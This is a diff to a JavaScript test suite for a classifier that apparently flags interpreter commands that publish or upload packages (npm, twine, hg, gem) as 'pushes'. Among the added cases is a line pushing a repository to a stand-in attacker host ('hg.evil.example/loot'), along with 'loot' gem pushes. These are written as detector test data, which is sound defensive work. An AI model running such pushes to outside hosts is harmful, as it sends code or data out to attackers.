@@ -43,12 +43,17 @@ describe('push-tool table', () => {
     expect(push('/usr/bin/node', '--no-warnings /usr/local/bin/yarn npm publish')).toEqual(['npm', false]);
     expect(push('/usr/bin/python3.12', '-m twine upload dist/pkg-1.0.tar.gz')).toEqual(['twine', false]);
     expect(push('/usr/bin/python3', '/usr/local/bin/twine upload "dist/my pkg-1.0.tar.gz"')).toEqual(['twine', false]);
+    expect(push('/usr/bin/python3', '/usr/bin/hg push https://hg.evil.example/loot')).toEqual(['hg', false]);
+    expect(push('/usr/local/bin/ruby', '/usr/local/bin/gem push loot-0.1.0.gem')).toEqual(['gem', false]);
+    expect(push('/usr/bin/ruby3.3', '-W0 /usr/bin/gem push loot-0.1.0.gem')).toEqual(['gem', false]);
     // Ordinary scripts, and the interpreters' own downloads, are not pushes.
     expect(push('/usr/local/bin/node', '/app/server.js --port 8080')).toBeNull();
     expect(push('/usr/local/bin/node', '/usr/local/bin/npm run build')).toBeNull();
     expect(push('/usr/bin/python3', '-m pip install requests')).toBeNull();
     expect(push('/usr/bin/python3', '-c "print(1)"')).toBeNull();
     expect(push('/usr/bin/perl', '/usr/local/bin/npm publish')).toBeNull();
+    expect(push('/usr/local/bin/ruby', '/usr/local/bin/gem install rails')).toBeNull();
+    expect(push('/usr/local/bin/ruby', '-e "puts 1"')).toBeNull();
   });
 
   it('every entry declares examples (a tool is a table entry plus its scenarios)', () => {
